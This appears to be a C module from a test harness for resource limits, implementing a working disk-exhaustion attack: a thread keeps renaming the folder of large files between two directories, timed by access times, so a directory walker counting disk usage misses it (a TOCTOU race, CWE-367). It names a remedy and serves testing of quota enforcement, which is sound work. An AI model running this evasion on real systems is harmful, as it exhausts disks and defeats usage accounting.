// SPDX-License-Identifier: MIT
// build: -pthread
/*
 * moving-folder.c - a disk bomb that is always in the other room.
 *
 * Goal:  more bytes on disk than the budget.
 * Means: all files lie in one folder, which moves. Of two other folders one is listed before the other. The
 *        bomb waits in the second until the time of access says that the first was read, and moves into
 *        that one: who walks through the folders then finds the second without it.
 */
#include "attacks/attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define FILES 12
#define BETWEEN 400 /* files in the middle */
#define BYTES (8UL << 20)

static char first[2], second[2]; /* in the order of the list */

static long read_at(const char *folder)
{
	struct stat st;

	return stat(folder, &st) < 0 ? 0 : st.st_atim.tv_sec * 1000000000L + st.st_atim.tv_nsec;
}

/* Let the next read be seen: a time of access is changed only if the folder was, since. */
static void touch(const char *folder, unsigned turn)
{
	char from[16], to[16];

	snprintf(from, sizeof(from), "%s/%c", folder, turn & 1 ? 'q' : 'p');
	snprintf(to, sizeof(to), "%s/%c", folder, turn & 1 ? 'p' : 'q');
	rename(from, to);
}

static void *move(void *arg)
{
	const struct timespec moment = { .tv_nsec = 3000000 };
	char in_first[16], in_second[16];

	(void)arg;
	snprintf(in_first, sizeof(in_first), "%s/all", first);
	snprintf(in_second, sizeof(in_second), "%s/all", second);
	for (unsigned turn = 0;; turn++) {
		long then;

		touch("between", turn);
		for (then = read_at("between"); read_at("between") == then;)
			continue;
		rename(in_second, in_first);
		nanosleep(&moment, NULL);
		rename(in_first, in_second);
	}
	return NULL;
}

static bool build(void)
{
	char name[32];

	if (mkdir("a", 0700) < 0 || mkdir("between", 0700) < 0)
		return false;
	for (int i = 0; i < BETWEEN; i++) {
		snprintf(name, sizeof(name), "between/%d", i);
		close(open(name, O_WRONLY | O_CREAT, 0600));
	}
	return mkdir("b", 0700) == 0 && mkdir("between/p", 0700) == 0;
}

static bool find_order(void)
{
	DIR *d = opendir(".");

	for (struct dirent *e; d && (e = readdir(d));)
		if (e->d_name[0] != '.' && !e->d_name[1])
			*(*first ? second : first) = e->d_name[0];
	if (d)
		closedir(d);
	return *second;
}

static enum claim run(const struct brief *b)
{
	static char block[1 << 16];
	const char *dir = getenv("TMPDIR");
	pthread_t other;
	int fd[FILES];
	char name[32];

	if (chdir(dir ? dir : "/tmp") < 0 || !build() || !find_order())
		return failed("mkdir");
	snprintf(name, sizeof(name), "%s/all", second);
	if (mkdir(name, 0700) < 0)
		return failed("mkdir");
	attempting(b);
	for (int i = 0; i < FILES; i++) {
		snprintf(name, sizeof(name), "%s/all/%d", second, i);
		fd[i] = open(name, O_WRONLY | O_CREAT, 0600);
		if (fd[i] < 0)
			return denied("open");
	}
	errno = pthread_create(&other, NULL, move, NULL);
	if (errno)
		return failed("pthread_create");
	for (size_t n = 0; n < BYTES; n += sizeof(block))
		for (int i = 0; i < FILES; i++)
			if (write(fd[i], block, sizeof(block)) != (ssize_t)sizeof(block))
				return denied("write");
	return hold();
}

const struct attack attack = {
	.effect = "more bytes on disk than the budget",
	.means = "a folder that moves away from who looks for it, told by the time of access",
	.oracle = "usage:disk",
	.attack_id = "T1499.001, CWE-367",
	.remedy = "look again where a folder has changed meanwhile; a quota of the file system",
	.refs = (const char *const[]){ "rename(2)", "open(2): O_NOATIME", NULL },
	.run = run,
};
